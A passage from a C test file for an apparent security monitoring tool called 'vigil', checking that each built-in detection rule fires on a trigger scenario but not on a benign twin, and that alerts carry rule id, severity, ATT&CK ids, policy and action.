		printf("  trigger: %s\n  exit %d; alerts it raised: %s\n", scenarios[i].trigger,
		       run.status[i][0], others);
		print_log(i, 't');
	}
	if (!ASSERT_EQ(count_alerts(i, 'b', scenarios[i].rule), 0,
		       "alerts of the rule raised by the benign twin") ||
	    !ASSERT_EQ(run.status[i][1], 0, "the benign twin's exit code (it must do its work)")) {
		printf("  benign: %s\n", scenarios[i].benign);
		print_log(i, 'b');
	}
}

/*
 * One test per scenario, named after its rule. The harness registers functions, so there is
 * one small function per table row.
 */
/* clang-format off */
#define ROW(n) static void row_##n(void) { if (n < N_SCENARIOS) check_scenario(n); }
#define ROWS10(d) ROW(d##0) ROW(d##1) ROW(d##2) ROW(d##3) ROW(d##4) \
		  ROW(d##5) ROW(d##6) ROW(d##7) ROW(d##8) ROW(d##9)
#define FNS10(d) row_##d##0, row_##d##1, row_##d##2, row_##d##3, row_##d##4, \
		 row_##d##5, row_##d##6, row_##d##7, row_##d##8, row_##d##9,

ROWS10() ROWS10(1) ROWS10(2) ROWS10(3) ROWS10(4) ROWS10(5)
ROWS10(6) ROWS10(7) ROWS10(8) ROWS10(9) ROWS10(10) ROWS10(11) ROWS10(12)

static test_fn row_fns[] = {
	FNS10() FNS10(1) FNS10(2) FNS10(3) FNS10(4) FNS10(5)
	FNS10(6) FNS10(7) FNS10(8) FNS10(9) FNS10(10) FNS10(11) FNS10(12)
};
/* clang-format on */

_Static_assert(N_SCENARIOS <= sizeof(row_fns) / sizeof(row_fns[0]), "add rows to row_fns");

__attribute__((constructor)) static void register_rows(void)
{
	for (size_t i = 0; i < N_SCENARIOS; i++)
		harness_register(scenarios[i].rule, row_fns[i]);
}

/* Every rule of the built-in ruleset (vigil policy list) has a scenario here. */
TEST(every_builtin_rule_has_a_scenario)
{
	char line[512];
	size_t rules = 0;
	FILE *f;

	snprintf(line, sizeof(line), "%s policy list 2>&1", vigil_bin());
	f = popen(line, "r");
	if (!ASSERT_NOT_NULL(f, "vigil policy list"))
		return;
	while (fgets(line, sizeof(line), f)) {
		char id[128], sev[32];
		bool found = false;

		if (sscanf(line, "%127s %31s", id, sev) != 2 ||
		    !strstr(" info low medium high critical ", sev))
			continue;
		rules++;
		for (size_t i = 0; i < N_SCENARIOS && !found; i++)
			found = !strcmp(scenarios[i].rule, id);
		if (!found)
			harness_check(false, __FILE__, __LINE__, "built-in rule %s has no scenario",
				      id);
	}
	pclose(f);
	ASSERT_GE(rules, 45, "rules in the built-in ruleset");
}

/* Every alert names its rule fully: id, severity, ATT&CK ids, policy and action. */
TEST(every_alert_names_rule_severity_mitre_and_policy)
{
	size_t alerts = 0;

	if (!run.done)
		run_all();
	if (run.fail) {
		if (!strncmp(run.fail, "needs root", 10))
			SKIP("%s", run.fail);
		else
			harness_check(false, __FILE__, __LINE__, "%s", run.fail);
		return;
	}
	for (size_t k = 0; k < run.n; k++) {
		struct json_object *mitre = jget(run.ev[k], "rule.mitre");
		const char *id = jstr(run.ev[k], "rule.id");

		if (!jget(run.ev[k], "rule"))
			continue;
		alerts++;
		if (!ASSERT_NOT_NULL(id, "rule.id") ||
		    !ASSERT_NOT_NULL(jstr(run.ev[k], "rule.severity"), id) ||
		    !ASSERT_NOT_NULL(jstr(run.ev[k], "rule.policy"), id) ||
		    !ASSERT_TRUE(mitre && json_object_is_type(mitre, json_type_array) &&
					 json_object_array_length(mitre) > 0,
				 "rule.mitre is a non-empty array") ||
		    !ASSERT_STREQ(jstr(run.ev[k], "action"), "alert", id))
			break;
	}
	ASSERT_GE(alerts, 1, "alerts seen");
}
